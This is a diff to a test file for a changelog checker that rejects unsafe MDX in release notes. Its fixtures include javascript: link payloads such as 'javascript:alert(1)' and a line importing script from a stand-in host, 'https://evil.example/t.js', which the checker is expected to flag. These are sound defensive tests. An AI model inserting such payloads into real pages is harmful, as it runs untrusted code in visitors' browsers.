@@ -86,6 +86,10 @@ NOTES = [
      f"link 'javascript:alert(1' uses the scheme 'javascript:'; {SCHEMES}"),
     ("link-around-an-image", "- adds [![badge](https://example.org/b.svg)](javascript:x).\n",
      1, f"link 'javascript:x' uses the scheme 'javascript:'; {SCHEMES}"),
+    ("lt-ends-a-paragraph", "- keeps latency <\n", 1, "a '<' at the end of a paragraph fails "
+     "to compile on the site; write it as &lt; or \\<"),
+    ("lt-ends-a-list-item", "- keeps latency <\n- adds things.\n", 1, "a '<' at the end of a "
+     "paragraph fails to compile on the site; write it as &lt; or \\<"),
     ("definition-target-on-next-line", "- adds [x][g].\n\n[g]:\n  javascript:alert(3)\n", 4,
      f"link 'javascript:alert(3)' uses the scheme 'javascript:'; {SCHEMES}"),
 ]  # fmt: skip
@@ -105,7 +109,8 @@ def test_code_and_escapes_stay_text(project: Project, run: Run) -> None:
     before a blank and a whole MDX comment are accepted, and the entry passes `check`."""
     project.write(
         NOTE,
-        "- sets `--hf-overrides '{\"a\": 1}'` and ``a`b<c>`` for x < y.\n"
+        "- sets `--hf-overrides '{\"a\": 1}'` and ``a`b<c>`` for x < y, and for x <\n"
+        "  y on the next line.\n"
         "  Writes \\{x\\}, \\<br>, &lt;b&gt; and \\\\\\` alone. {/* reviewed */}\n"
         "  ```json\n"
         '  {"max_model_len": "<auto>"}\n'
@@ -135,6 +140,20 @@ def test_an_entry_with_markup_fails_check_and_build(project: Project, run: Run) 
     overview = (project.root / "changelog/overview.mdx").read_text("utf-8")
     assert "adds \\{alert(1)} \\<img src=x> things." in overview
     assert "{alert(1)}" not in overview.replace("\\{alert(1)}", "")
+
+
+def test_an_entry_line_that_mdx_reads_as_javascript_fails_check(project: Project, run: Run):
+    assert run(project, *RELEASE, "--summary", "adds things.").exit_code == 0
+    text = (project.root / DAY).read_text("utf-8")
+    esm = "import Tracker from 'https://evil.example/t.js'"
+    project.write(DAY, text.replace("adds things.\n", f"adds things.\n\n{esm}\n", 1))
+    line = (project.root / DAY).read_text("utf-8").split("\n").index(esm) + 1
+    checked = run(project, "check")
+    assert (checked.exit_code, checked.stdout) == (
+        1,
+        f"{DAY}:{line}:1: error: a line that starts with 'import' or 'export' after a blank "
+        "line is JavaScript to MDX (it would run on the site); start the line with other words\n",
+    )
 
 
 @pytest.mark.parametrize(
